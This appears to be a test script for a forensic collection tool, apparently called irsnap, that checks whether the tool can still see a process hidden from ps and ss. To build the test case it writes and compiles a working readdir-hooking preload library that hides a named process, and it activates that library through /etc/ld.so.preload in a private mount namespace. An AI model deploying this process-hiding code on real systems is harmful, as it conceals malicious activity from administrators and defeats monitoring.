#!/bin/bash
# A userland process hider (issue 14): a preload library in the manner of
# libprocesshider (readdir() skips the /proc entry of a process by name),
# written and built by the test, made global through /etc/ld.so.preload in
# a private mount namespace (a copy of /etc bind-mounted over it: the host's
# /etc is not touched). `ps` then misses the payload and `ss -p` names no
# owner of its listening socket; the static irsnap, which loads nothing,
# records the process, its socket and the socket's owner.
. "$(dirname "$0")/lib.sh"
need_static "a dynamic irsnap would load the hider itself"
need_root "a private mount namespace with its own /etc"
need gcc; need ps; need ss; need python3; need unshare; need jq

cat >"$T_DIR/hider.c" <<'EOC'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *hidden = "evilsrv";

static int is_hidden(DIR *d, const struct dirent *e)
{
	char fdp[64], dir[PATH_MAX], stat[PATH_MAX], buf[512];
	snprintf(fdp, sizeof(fdp), "/proc/self/fd/%d", dirfd(d));
	ssize_t n = readlink(fdp, dir, sizeof(dir) - 1);
	if (n < 0)
		return 0;
	dir[n] = 0;
	if (strcmp(dir, "/proc") != 0 || e->d_name[0] < '0' || e->d_name[0] > '9')
		return 0;
	snprintf(stat, sizeof(stat), "/proc/%s/stat", e->d_name);
	FILE *f = fopen(stat, "r");
	if (!f)
		return 0;
	int got = fgets(buf, sizeof(buf), f) != NULL;
	fclose(f);
	char *l = strchr(buf, '('), *r = strrchr(buf, ')');
	return got && l && r && (size_t)(r - l - 1) == strlen(hidden) &&
	       strncmp(l + 1, hidden, strlen(hidden)) == 0;
}

#define HIDE(name, type) \
type *name(DIR *d) \
{ \
	static type *(*orig)(DIR *); \
	if (!orig) \
		orig = (type *(*)(DIR *))dlsym(RTLD_NEXT, #name); \
	type *e; \
	while ((e = orig(d)) && is_hidden(d, (const struct dirent *)e)) \
		; \
	return e; \
}
HIDE(readdir, struct dirent)
HIDE(readdir64, struct dirent64)
EOC
gcc -shared -fPIC -O1 -o "$T_DIR/libhider.so" "$T_DIR/hider.c" -ldl || skip "cannot build the preload library"

py=$(python3 -c "import os, sys; print(os.path.realpath(sys.executable))") && cp "$py" "$T_DIR/evilsrv" ||
	skip "cannot copy the python interpreter"
"$T_DIR/evilsrv" -c '
import socket, time
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
open("'"$T_DIR"'/port", "w").write(str(s.getsockname()[1]))
time.sleep(120)' &
P=$!
for _ in $(seq 200); do [ -s "$T_DIR/port" ] && break; sleep 0.05; done
[ -s "$T_DIR/port" ] || { kill $P; fail "the payload did not start"; finish; }
PORT=$(cat "$T_DIR/port")
check "without the hider, ps lists the payload" bash -c "ps -e -o pid= | grep -qw $P"

cat >"$T_DIR/ns.sh" <<'EOS'
T=$1 IRSNAP=$2 OUT=$3
cp -a /etc "$T/etc" && echo "$T/libhider.so" >"$T/etc/ld.so.preload" &&
	mount --bind "$T/etc" /etc || exit 3
ps -e -o pid= >"$T/ps.txt"
ss -ltnp >"$T/ss.txt"
"$IRSNAP" collect -o "$OUT/h.tar" --allow-host-output --profile minimal 2>"$OUT/h.err"
echo $? >"$T/rc"
EOS
unshare --mount --propagation private bash "$T_DIR/ns.sh" "$T_DIR" "$IRSNAP" "$OUT"
[ $? = 3 ] && { kill $P; skip "cannot bind a copy of /etc in a private namespace"; }
kill $P

check "with the hider, ps misses the payload (pid $P)" bash -c "! grep -qw $P '$T_DIR/ps.txt'"
check "... ss lists its port ($PORT) but names no owner" \
	bash -c "grep -q ':$PORT ' '$T_DIR/ss.txt' && ! grep ':$PORT ' '$T_DIR/ss.txt' | grep -q evilsrv"
check "collect exits 0 or 1 under the hider" [ "$(cat "$T_DIR/rc")" -le 1 ]
extract h || { fail "no bundle"; finish; }
check "the bundle verifies" verifies "$OUT/h.tar"
expect "irsnap records the hidden process, with its name" \
	'[ "$(jq -r "select(.pid == $P) | .comm" "$BDIR/volatile/processes.jsonl")" = evilsrv ]'
expect "... its listening socket, owned by it" \
	'[ "$(jq -r "select(.local.port == $PORT and .state == \"LISTEN\") | .owners | map(\"\(.pid)/\(.comm)\") | join(\",\")" "$BDIR/volatile/sockets.jsonl")" = "$P/evilsrv" ]'
expect "... and its open fds" \
	'[ "$(jq -r "select(.pid == $P and .type == \"socket\") | .pid" "$BDIR/volatile/open-files.jsonl" | head -n 1)" = "$P" ]'
finish
